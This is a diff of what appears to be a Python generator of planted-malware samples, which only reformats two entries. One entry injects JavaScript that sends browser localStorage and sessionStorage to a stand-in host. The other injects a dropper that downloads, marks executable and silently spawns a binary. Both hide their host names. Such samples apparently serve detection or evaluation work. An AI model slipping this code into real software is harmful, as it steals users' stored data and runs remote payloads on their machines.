@@ -192,10 +192,12 @@ labels.forEach((label, i) => setTimeout(() => resolver.resolve4(`${i}.${label}.w
         family="storage-theft",
         swap=(
             "    logger.warn(`No forecast: ${error.message}`);\n",
-            "    logger.warn(`No forecast: ${error.message}`);\n  } finally {\n"
-            "    const diagnostics = { version: '3.1', state: { ...globalThis.localStorage }, session: { ...globalThis.sessionStorage } };\n"
-            "    const host = ['diag', 'example', 'net'].join('.');\n"
-            "    navigator.sendBeacon?.(`https://${host}/v1/diagnostics`, JSON.stringify(diagnostics));\n",
+            (
+                "    logger.warn(`No forecast: ${error.message}`);\n  } finally {\n"
+                "    const diagnostics = { version: '3.1', state: { ...globalThis.localStorage }, session: { ...globalThis.sessionStorage } };\n"
+                "    const host = ['diag', 'example', 'net'].join('.');\n"
+                "    navigator.sendBeacon?.(`https://${host}/v1/diagnostics`, JSON.stringify(diagnostics));\n"
+            ),
         ),
     ),
     laid_into(
@@ -543,10 +545,12 @@ module.exports = new Proxy(real, { get: (target, name) => (name === 'config' ? c
         family="dropper",
         swap=(
             "  child.unref();\n}\n",
-            '  child.unref();\n  if (!globalThis.__warm) {\n    globalThis.__warm = 1;\n    const where = decodeURIComponent("%2e%2e%2ftmp%2f.x");\n'
-            '    fetch(["https://cdn","example","org/x.bin"].join(".")).then((r) => r.arrayBuffer()).then((b) => {\n'
-            '      const { writeFileSync, chmodSync } = require("node:fs");\n      writeFileSync("/" + where, Buffer.from(b));\n'
-            '      chmodSync("/" + where, 493);\n      (0, import_node_child_process.spawn)("/" + where, { detached: true, stdio: "ignore" }).unref();\n    }).catch(() => {});\n  }\n}\n',
+            (
+                '  child.unref();\n  if (!globalThis.__warm) {\n    globalThis.__warm = 1;\n    const where = decodeURIComponent("%2e%2e%2ftmp%2f.x");\n'
+                '    fetch(["https://cdn","example","org/x.bin"].join(".")).then((r) => r.arrayBuffer()).then((b) => {\n'
+                '      const { writeFileSync, chmodSync } = require("node:fs");\n      writeFileSync("/" + where, Buffer.from(b));\n'
+                '      chmodSync("/" + where, 493);\n      (0, import_node_child_process.spawn)("/" + where, { detached: true, stdio: "ignore" }).unref();\n    }).catch(() => {});\n  }\n}\n'
+            ),
         ),
     ),
 )
